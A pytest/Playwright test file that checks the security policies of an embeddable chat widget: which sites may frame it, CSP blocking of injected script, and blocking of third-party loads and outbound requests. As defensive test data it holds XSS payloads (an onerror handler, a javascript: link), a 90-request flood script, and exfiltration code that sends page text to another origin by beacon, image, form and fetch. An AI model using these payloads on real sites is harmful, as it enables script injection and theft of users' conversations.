"""Who may show the widget inside their own page, and what may run or be loaded in it."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from other_site import OtherSite, other_site
from playwright.sync_api import Browser, Error, Page, expect
from serving import Serving, serving
from visitor import burst
from widget import EXIT, WORDS, ask


@pytest.fixture(scope="module")
def friend() -> Iterator[OtherSite]:
    """A site that may embed the widget, where EMBED_ORIGINS says so."""
    with other_site() as site:
        yield site


@pytest.fixture(scope="module")
def embeddable(trained: None, friend: OtherSite) -> Iterator[Serving]:
    """The program with EMBED_ORIGINS set."""
    with serving({"EMBED_ORIGINS": friend.origin}) as running:
        yield running


@pytest.fixture
def visitor(browser: Browser) -> Iterator[Page]:
    """A page of somebody who visits other sites."""
    context = browser.new_context()
    yield context.new_page()
    context.close()


def visit_framing(visitor: Page, site: OtherSite, server: Serving) -> list[str]:
    """Opens a site that frames the widget; what the browser complained of."""
    said: list[str] = []
    visitor.on("console", lambda message: said.append(message.text))
    site.html = f"Help <iframe src='{server.url}' width=600 height=500></iframe>"
    visitor.goto(site.origin)
    visitor.wait_for_timeout(300)
    return said


def assert_refused(visitor: Page, said: list[str]) -> None:
    assert any("frame-ancestors" in line for line in said), said
    assert "chrome-error://chromewebdata/" in [frame.url for frame in visitor.frames]
    expect(visitor.frame_locator("iframe").get_by_label("Your question")).to_have_count(0)


def test_no_site_may_frame_the_widget(visitor: Page, server: Serving) -> None:
    """Threat: a site lays something over the widget and catches what is typed or touched."""
    with other_site() as site:
        assert_refused(visitor, visit_framing(visitor, site, server))


def test_a_site_that_is_named_may_frame_it(
    visitor: Page, embeddable: Serving, friend: OtherSite
) -> None:
    """Threat: none; the widget must work there as it does alone."""
    assert visit_framing(visitor, friend, embeddable) == []
    frame = visitor.frame_locator("iframe")
    frame.get_by_label("Your question").fill("what is a subject access request")
    frame.get_by_label("Your question").press("Enter")
    expect(frame.get_by_role("article")).to_be_visible()
    assert WORDS not in str(friend.asked)


def test_another_site_may_not_where_one_may(visitor: Page, embeddable: Serving) -> None:
    """Threat: a permission for one is a permission for all."""
    with other_site() as site:
        assert_refused(visitor, visit_framing(visitor, site, embeddable))


ASK_OFTEN = """async url => {
    const asking = {method: 'POST', mode: 'no-cors', body: '{}'};
    await Promise.all(Array.from({length: 90}, () => fetch(url, asking).catch(() => null)));
}"""


def test_a_page_of_another_site_cannot_ask(visitor: Page, embeddable: Serving) -> None:
    """Threat: it asks until its visitors' address may ask no more."""
    with other_site() as site:
        visitor.goto(site.origin)
        visitor.evaluate(ASK_OFTEN, f"{embeddable.url}/api/chat")
    assert set(burst(embeddable, "127.0.0.1", 20)) == {400}


@pytest.mark.parametrize("way", ["button", "keys"])
def test_the_quick_exit_leaves_the_whole_tab(
    visitor: Page, embeddable: Serving, friend: OtherSite, way: str
) -> None:
    """Threat: the page around the widget stays, and shows what it was about."""
    visitor.route(EXIT, lambda route: route.fulfill(body="Rain", content_type="text/html"))
    visit_framing(visitor, friend, embeddable)
    frame = visitor.frame_locator("iframe")
    if way == "button":
        frame.get_by_role("button", name="Leave this page").click()
    else:
        frame.get_by_label("Your question").click()
        for _ in range(3):
            visitor.keyboard.press("Shift")
    visitor.wait_for_url(EXIT)


RUN_INLINE = {
    "a script": "() => { const s = document.createElement('script');"
    " s.textContent = 'window.ran = true'; document.body.append(s); }",
    "a handler": "() => { document.getElementById('log').innerHTML ="
    " '<img src=/nothing onerror=\"window.ran = true\">'; }",
    "a link": "() => { const a = document.createElement('a');"
    " a.href = 'javascript:window.ran = true'; document.body.append(a); a.click(); }",
    "a text": "() => { setTimeout('window.ran = true', 0); }",
}


@pytest.mark.parametrize("inject", RUN_INLINE.values(), ids=RUN_INLINE.keys())
def test_nothing_that_gets_into_the_page_can_run(
    page: Page, errors: list[str], inject: str
) -> None:
    """Threat: words of a person or an answer that are taken for a program."""
    page.evaluate(inject)
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran") is None
    assert any("Content Security Policy" in error for error in errors)
    errors.clear()


def test_a_script_of_another_site_is_not_loaded(page: Page, errors: list[str]) -> None:
    """Threat: a third party's script reads the chat."""
    with other_site() as site:
        with pytest.raises(Error):
            page.add_script_tag(url=f"{site.origin}/script.js")
        assert page.evaluate("window.ran") is None
        assert site.asked == []
    errors.clear()


def test_the_page_can_send_nothing_to_another_site(page: Page, errors: list[str]) -> None:
    """Threat: whatever runs in the page all the same carries the chat away."""
    ask(page, f"hello {WORDS}")
    with other_site() as site:
        page.evaluate(
            """async (to) => {
                new Image().src = to + "/image";
                navigator.sendBeacon(to + "/beacon", document.body.innerText);
                const form = document.createElement("form");
                form.action = to + "/form";
                form.target = "_blank";
                document.body.append(form);
                form.submit();
                await fetch(to + "/fetch", { mode: "no-cors" }).catch(() => 0);
                await new Promise((done) => setTimeout(done, 500));
            }""",
            site.origin,
        )
        assert site.asked == []
    errors.clear()
